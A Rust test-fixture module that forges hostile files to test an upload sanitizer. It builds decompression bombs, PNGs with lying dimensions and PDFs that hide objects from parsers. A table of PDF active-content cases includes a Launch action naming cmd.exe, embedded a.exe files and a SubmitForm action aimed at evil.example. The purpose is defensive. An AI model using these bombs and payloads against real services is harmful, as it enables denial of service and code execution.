//! Forged files for the upload tests: images with metadata, bombs and lying headers, PDFs
//! built object by object (object streams, orphans, every kind of active content), archives.
//! Built in code so that each one says what it is.
#![allow(dead_code)]
#![allow(
    clippy::cast_possible_truncation,
    reason = "test pixel patterns and bit packing truncate on purpose"
)]

use image::codecs::jpeg::JpegEncoder;
use image::codecs::png::PngEncoder;
use image::{ExtendedColorType, ImageEncoder};

pub fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    haystack.windows(needle.len()).any(|w| w == needle)
}

// ---------------------------------------------------------------------------------------------
// Builders

pub fn small_jpeg(width: u32, height: u32) -> Vec<u8> {
    let pixels: Vec<u8> = (0..width * height)
        .flat_map(|i| {
            let (x, y) = (i % width, i / width);
            [(x * 5) as u8, (y * 5) as u8, 128]
        })
        .collect();
    let mut out = Vec::new();
    JpegEncoder::new_with_quality(&mut out, 90)
        .write_image(&pixels, width, height, ExtendedColorType::Rgb8)
        .unwrap();
    out
}

pub fn small_png(width: u32, height: u32) -> Vec<u8> {
    let pixels: Vec<u8> = (0..width * height)
        .flat_map(|i| [(i % 256) as u8, 50, 200, 255])
        .collect();
    let mut out = Vec::new();
    PngEncoder::new(&mut out)
        .write_image(&pixels, width, height, ExtendedColorType::Rgba8)
        .unwrap();
    out
}

/// A little-endian TIFF/EXIF block: IFD0 with Orientation and a GPS IFD pointer; the GPS IFD
/// holds latitude N 43°15'0" and a map datum string we can search for.
pub fn exif_tiff(orientation: u16) -> Vec<u8> {
    let mut t = Vec::new();
    t.extend_from_slice(b"II*\0");
    t.extend_from_slice(&8u32.to_le_bytes()); // IFD0 at 8
    // IFD0: 2 entries (2 + 2*12 + 4 = 30 bytes) → GPS IFD at 38.
    let entry = |t: &mut Vec<u8>, tag: u16, typ: u16, count: u32, value: [u8; 4]| {
        t.extend_from_slice(&tag.to_le_bytes());
        t.extend_from_slice(&typ.to_le_bytes());
        t.extend_from_slice(&count.to_le_bytes());
        t.extend_from_slice(&value);
    };
    t.extend_from_slice(&2u16.to_le_bytes());
    let o = orientation.to_le_bytes();
    entry(&mut t, 0x0112, 3, 1, [o[0], o[1], 0, 0]); // Orientation, SHORT
    entry(&mut t, 0x8825, 4, 1, 38u32.to_le_bytes()); // GPSInfo IFD pointer, LONG
    t.extend_from_slice(&0u32.to_le_bytes()); // no IFD1
    assert_eq!(t.len(), 38);
    // GPS IFD: 3 entries (2 + 36 + 4 = 42) → data at 80.
    t.extend_from_slice(&3u16.to_le_bytes());
    entry(&mut t, 0x0001, 2, 2, *b"N\0\0\0"); // GPSLatitudeRef
    entry(&mut t, 0x0002, 5, 3, 80u32.to_le_bytes()); // GPSLatitude, 3 RATIONALs
    entry(&mut t, 0x0012, 2, 16, 104u32.to_le_bytes()); // GPSMapDatum, ASCII
    t.extend_from_slice(&0u32.to_le_bytes());
    assert_eq!(t.len(), 80);
    for (num, den) in [(43u32, 1u32), (15, 1), (0, 1)] {
        t.extend_from_slice(&num.to_le_bytes());
        t.extend_from_slice(&den.to_le_bytes());
    }
    t.extend_from_slice(b"SECRET-GPS-WGS8\0");
    t
}

/// Splices an APP1 `Exif\0\0` segment in right after SOI.
pub fn jpeg_with_exif(jpeg: &[u8], orientation: u16) -> Vec<u8> {
    let mut payload = b"Exif\0\0".to_vec();
    payload.extend_from_slice(&exif_tiff(orientation));
    let mut out = jpeg[..2].to_vec();
    out.extend_from_slice(&[0xFF, 0xE1]);
    out.extend_from_slice(&u16::try_from(payload.len() + 2).unwrap().to_be_bytes());
    out.extend_from_slice(&payload);
    out.extend_from_slice(&jpeg[2..]);
    out
}

pub fn crc32(data: &[u8]) -> u32 {
    let mut crc = 0xFFFF_FFFFu32;
    for &b in data {
        crc ^= u32::from(b);
        for _ in 0..8 {
            crc = if crc & 1 == 1 {
                (crc >> 1) ^ 0xEDB8_8320
            } else {
                crc >> 1
            };
        }
    }
    !crc
}

pub fn png_chunk(kind: [u8; 4], data: &[u8]) -> Vec<u8> {
    let mut c = u32::try_from(data.len()).unwrap().to_be_bytes().to_vec();
    let mut body = kind.to_vec();
    body.extend_from_slice(data);
    c.extend_from_slice(&body);
    c.extend_from_slice(&crc32(&body).to_be_bytes());
    c
}

/// Inserts chunks right after IHDR (8 signature + 25 IHDR bytes).
pub fn png_insert_after_ihdr(png: &[u8], chunks: &[Vec<u8>]) -> Vec<u8> {
    let mut out = png[..33].to_vec();
    for c in chunks {
        out.extend_from_slice(c);
    }
    out.extend_from_slice(&png[33..]);
    out
}

/// A PNG whose IHDR declares `width`×`height`, bit depth and colour type as given, followed by
/// `idat` (a zlib stream) and IEND; all CRCs correct.
pub fn png_with(width: u32, height: u32, depth: u8, colour: u8, idat: &[u8]) -> Vec<u8> {
    let mut ihdr = width.to_be_bytes().to_vec();
    ihdr.extend_from_slice(&height.to_be_bytes());
    ihdr.extend_from_slice(&[depth, colour, 0, 0, 0]);
    let mut out = b"\x89PNG\r\n\x1a\n".to_vec();
    out.extend(png_chunk(*b"IHDR", &ihdr));
    out.extend(png_chunk(*b"IDAT", idat));
    out.extend(png_chunk(*b"IEND", &[]));
    out
}

/// Bits written least-significant first, as deflate wants.
struct BitWriter {
    out: Vec<u8>,
    acc: u64,
    n: u32,
}

impl BitWriter {
    fn put(&mut self, value: u32, bits: u32) {
        self.acc |= u64::from(value) << self.n;
        self.n += bits;
        while self.n >= 8 {
            self.out.push(self.acc as u8);
            self.acc >>= 8;
            self.n -= 8;
        }
    }
    /// A Huffman code goes in most-significant bit first.
    fn put_code(&mut self, code: u32, bits: u32) {
        let reversed = code.reverse_bits() >> (32 - bits);
        self.put(reversed, bits);
    }
}

/// A zlib stream of `len` zero bytes: fixed-Huffman deflate, one literal then length-258
/// distance-1 matches (13 bits per 258 bytes), so gigabyte bombs stay a few megabytes.
pub fn zlib_zeros(len: u64) -> Vec<u8> {
    let mut w = BitWriter {
        out: vec![0x78, 0x01],
        acc: 0,
        n: 0,
    };
    w.put(1, 1); // BFINAL
    w.put(1, 2); // fixed Huffman
    let literal_zero = |w: &mut BitWriter| w.put_code(0x30, 8);
    literal_zero(&mut w);
    let mut left = len - 1;
    while left >= 258 {
        w.put_code(0xC5, 8); // length code 285 = 258
        w.put_code(0, 5); // distance code 0 = 1
        left -= 258;
    }
    for _ in 0..left {
        literal_zero(&mut w);
    }
    w.put_code(0, 7); // end of block
    if w.n > 0 {
        w.put(0, 8 - w.n);
    }
    // Adler-32 of zeros: a stays 1, b grows by 1 per byte.
    let b = u32::try_from(len % 65521).unwrap();
    w.out.extend_from_slice(&((b << 16) | 1).to_be_bytes());
    w.out
}

/// A PDF from numbered object bodies (1-based), with a correct xref table.
pub fn pdf(objects: &[&str], trailer_extra: &str) -> Vec<u8> {
    let mut out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n".to_vec();
    let mut offsets = Vec::new();
    for (i, body) in objects.iter().enumerate() {
        offsets.push(out.len());
        out.extend_from_slice(format!("{} 0 obj\n{body}\nendobj\n", i + 1).as_bytes());
    }
    let xref = out.len();
    out.extend_from_slice(
        format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).as_bytes(),
    );
    for o in offsets {
        out.extend_from_slice(format!("{o:010} 00000 n \n").as_bytes());
    }
    out.extend_from_slice(
        format!(
            "trailer\n<< /Size {} /Root 1 0 R{trailer_extra} >>\nstartxref\n{xref}\n%%EOF\n",
            objects.len() + 1
        )
        .as_bytes(),
    );
    out
}

pub const CONTENT: &str =
    "<< /Length 44 >>\nstream\nBT /F1 24 Tf 72 720 Td (Passport copy) Tj ET\nendstream";

pub fn minimal_pdf_with_catalog(catalog_extra: &str, extra_objects: &[&str]) -> Vec<u8> {
    let catalog = format!("<< /Type /Catalog /Pages 2 0 R{catalog_extra} >>");
    let mut objects = vec![
        catalog.as_str(),
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        CONTENT,
    ];
    objects.extend_from_slice(extra_objects);
    pdf(&objects, "")
}

pub fn minimal_pdf() -> Vec<u8> {
    minimal_pdf_with_catalog("", &[])
}

/// A real 1×1 PNG whose IHDR is rewritten to declare 50,000 × 50,000 (CRC fixed).
pub fn lying_png(width: u32, height: u32) -> Vec<u8> {
    let mut png = small_png(1, 1);
    png[16..20].copy_from_slice(&width.to_be_bytes());
    png[20..24].copy_from_slice(&height.to_be_bytes());
    let crc = crc32(&png[12..29]);
    png[29..33].copy_from_slice(&crc.to_be_bytes());
    png
}

/// A PDF 1.5 file whose catalog and action live in an (uncompressed) object stream, found
/// through a cross-reference stream: only a parser that reads object streams sees them.
pub fn pdf_with_object_stream(catalog_extra: &str, action: &str) -> Vec<u8> {
    pdf_with_object_stream_as(catalog_extra, action, false)
}

pub fn zlib(data: &[u8]) -> Vec<u8> {
    use std::io::Write;
    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    z.write_all(data).unwrap();
    z.finish().unwrap()
}

/// As [`pdf_with_object_stream`], the object stream compressed (`/FlateDecode`) when
/// `compress`, as every real generator writes it.
pub fn pdf_with_object_stream_as(catalog_extra: &str, action: &str, compress: bool) -> Vec<u8> {
    let catalog = format!("<< /Type /Catalog /Pages 2 0 R{catalog_extra} >>");
    let header = format!("1 0 4 {} ", catalog.len() + 1);
    let body = format!("{header}{catalog}\n{action}\n");
    let mut out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n".to_vec();
    let mut offsets = [0usize; 7];
    let mut object = |out: &mut Vec<u8>, n: usize, text: &[u8]| {
        offsets[n] = out.len();
        out.extend_from_slice(format!("{n} 0 obj\n").as_bytes());
        out.extend_from_slice(text);
        out.extend_from_slice(b"\nendobj\n");
    };
    object(&mut out, 2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>");
    object(
        &mut out,
        3,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
    );
    let (filter, data) = if compress {
        // Padding that compresses well, so deflate codes every byte rather than storing the
        // text as it is.
        let padded = format!("{body}{}\n", " ".repeat(512));
        (" /Filter /FlateDecode", zlib(padded.as_bytes()))
    } else {
        ("", body.into_bytes())
    };
    let mut stream = format!(
        "<< /Type /ObjStm /N 2 /First {}{filter} /Length {} >>\nstream\n",
        header.len(),
        data.len()
    )
    .into_bytes();
    stream.extend_from_slice(&data);
    stream.extend_from_slice(b"\nendstream");
    object(&mut out, 5, &stream);
    let xref_at = out.len();
    offsets[6] = xref_at;
    let mut entries = Vec::new();
    let mut entry = |t: u8, a: usize, b: u16| {
        entries.push(t);
        entries.extend_from_slice(&u32::try_from(a).unwrap().to_be_bytes());
        entries.extend_from_slice(&b.to_be_bytes());
    };
    entry(0, 0, 0xFFFF);
    entry(2, 5, 0);
    entry(1, offsets[2], 0);
    entry(1, offsets[3], 0);
    entry(2, 5, 1);
    entry(1, offsets[5], 0);
    entry(1, offsets[6], 0);
    out.extend_from_slice(
        format!(
            "6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length {} >>\nstream\n",
            entries.len()
        )
        .as_bytes(),
    );
    out.extend_from_slice(&entries);
    out.extend_from_slice(format!("\nendstream\nendobj\nstartxref\n{xref_at}\n%%EOF\n").as_bytes());
    out
}

/// `pdf` with `object` inserted before its xref table, which does not list it (startxref
/// fixed so the file still parses as written): a parser that follows the xref never sees it,
/// a reader that rebuilds the xref could.
pub fn with_orphan(mut pdf: Vec<u8>, object: &[u8]) -> Vec<u8> {
    let at = pdf.windows(4).position(|w| w == b"xref").unwrap();
    pdf.splice(at..at, object.iter().copied());
    let start = pdf.windows(10).rposition(|w| w == b"startxref\n").unwrap() + 10;
    let end = start + pdf[start..].iter().position(|&b| b == b'\n').unwrap();
    let new_xref = at + object.len();
    pdf.splice(start..end, new_xref.to_string().bytes());
    pdf
}

/// An object stream (object 9, compressed) holding `object` as object 10.
pub fn orphan_object_stream(object: &str) -> Vec<u8> {
    let header = "10 0 ";
    let data = zlib(format!("{header}{object}\n").as_bytes());
    let mut out = format!(
        "9 0 obj\n<< /Type /ObjStm /N 1 /First {} /Filter /FlateDecode /Length {} >>\nstream\n",
        header.len(),
        data.len()
    )
    .into_bytes();
    out.extend_from_slice(&data);
    out.extend_from_slice(b"\nendstream\nendobj\n");
    out
}

/// Every name by which a PDF acts or carries a file, the label it is refused under, and an
/// object that uses it (`{}` stands for the name).
pub const ACTIVE_CASES: &[(&str, &str, &str)] = &[
    ("JavaScript", "JavaScript", "<< /Type /Action /S /{} >>"),
    ("JS", "JavaScript", "<< /Type /Action /{} 7 0 R >>"),
    (
        "OpenAction",
        "OpenAction",
        "<< /{} << /S /GoTo /D [3 0 R /Fit] >> >>",
    ),
    (
        "AA",
        "AA",
        "<< /Type /Annot /Subtype /Widget /{} << /K 7 0 R >> >>",
    ),
    ("Launch", "Launch", "<< /S /{} /F (cmd.exe) >>"),
    ("EmbeddedFile", "EmbeddedFile", "<< /Type /{} /Length 0 >>"),
    (
        "EmbeddedFiles",
        "EmbeddedFile",
        "<< /{} << /Names [(a.exe) 7 0 R] >> >>",
    ),
    (
        "FileAttachment",
        "EmbeddedFile",
        "<< /Type /Annot /Subtype /{} /FS 7 0 R >>",
    ),
    (
        "EF",
        "EmbeddedFile",
        "<< /Type /Filespec /F (a.exe) /{} << /F 7 0 R >> >>",
    ),
    (
        "RF",
        "EmbeddedFile",
        "<< /Type /Filespec /F (a.exe) /{} << /F 7 0 R >> >>",
    ),
    ("AF", "EmbeddedFile", "<< /{} [7 0 R] >>"),
    ("RichMedia", "RichMedia", "<< /Type /Annot /Subtype /{} >>"),
    ("XFA", "XFA", "<< /Fields [] /{} 7 0 R >>"),
    (
        "SubmitForm",
        "SubmitForm",
        "<< /S /{} /F (https://evil.example) >>",
    ),
    ("ImportData", "ImportData", "<< /S /{} /F (data.fdf) >>"),
    ("GoToR", "GoToR", "<< /S /{} /F (other.pdf) /D [0 /Fit] >>"),
    ("GoToE", "GoToE", "<< /S /{} /T << /R /C /N (a.pdf) >> >>"),
];

/// `name` with its last letter written as a `#xx` escape (`EF` → `E#46`).
pub fn escaped(name: &str) -> String {
    let (head, last) = name.split_at(name.len() - 1);
    format!("{head}#{:02X}", last.as_bytes()[0])
}

pub fn tar() -> Vec<u8> {
    let mut t = vec![0u8; 1024];
    t[..8].copy_from_slice(b"file.txt");
    t[257..265].copy_from_slice(b"ustar\x0000");
    t
}

/// A PDF with the standard security handler (all-zero keys).
pub fn encrypted_pdf() -> Vec<u8> {
    let objects = [
        "<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
        "<< /Filter /Standard /V 1 /R 2 /P -4 \
         /O <0000000000000000000000000000000000000000000000000000000000000000> \
         /U <0000000000000000000000000000000000000000000000000000000000000000> >>",
    ];
    pdf(
        &objects,
        " /Encrypt 4 0 R /ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>]",
    )
}

/// A stored ZIP archive of one file (`name`), central directory and end record included;
/// `comment` is the archive comment after the end record.
pub fn zip(name: &str, content: &[u8], comment: &[u8]) -> Vec<u8> {
    let crc = crc32(content);
    let size = u32::try_from(content.len()).unwrap();
    let name_len = u16::try_from(name.len()).unwrap();
    let mut out = Vec::new();
    out.extend_from_slice(b"PK\x03\x04\x14\x00\x00\x00\x00\x00\x00\x00\x00\x00");
    out.extend_from_slice(&crc.to_le_bytes());
    out.extend_from_slice(&size.to_le_bytes());
    out.extend_from_slice(&size.to_le_bytes());
    out.extend_from_slice(&name_len.to_le_bytes());
    out.extend_from_slice(&0u16.to_le_bytes());
    out.extend_from_slice(name.as_bytes());
    out.extend_from_slice(content);
    let central = out.len();
    out.extend_from_slice(b"PK\x01\x02\x14\x00\x14\x00\x00\x00\x00\x00\x00\x00\x00\x00");
    out.extend_from_slice(&crc.to_le_bytes());
    out.extend_from_slice(&size.to_le_bytes());
    out.extend_from_slice(&size.to_le_bytes());
    out.extend_from_slice(&name_len.to_le_bytes());
    out.extend_from_slice(&[0; 12]); // extra, comment, disk, attributes
    out.extend_from_slice(&0u32.to_le_bytes()); // local header at 0
    out.extend_from_slice(name.as_bytes());
    let central_len = u32::try_from(out.len() - central).unwrap();
    out.extend_from_slice(b"PK\x05\x06\x00\x00\x00\x00\x01\x00\x01\x00");
    out.extend_from_slice(&central_len.to_le_bytes());
    out.extend_from_slice(&u32::try_from(central).unwrap().to_le_bytes());
    out.extend_from_slice(&u16::try_from(comment.len()).unwrap().to_le_bytes());
    out.extend_from_slice(comment);
    out
}

/// A JPEG with `text` in a comment (COM) segment right after SOI.
pub fn jpeg_with_comment(jpeg: &[u8], text: &[u8]) -> Vec<u8> {
    let mut out = jpeg[..2].to_vec();
    out.extend_from_slice(&[0xFF, 0xFE]);
    out.extend_from_slice(&u16::try_from(text.len() + 2).unwrap().to_be_bytes());
    out.extend_from_slice(text);
    out.extend_from_slice(&jpeg[2..]);
    out
}
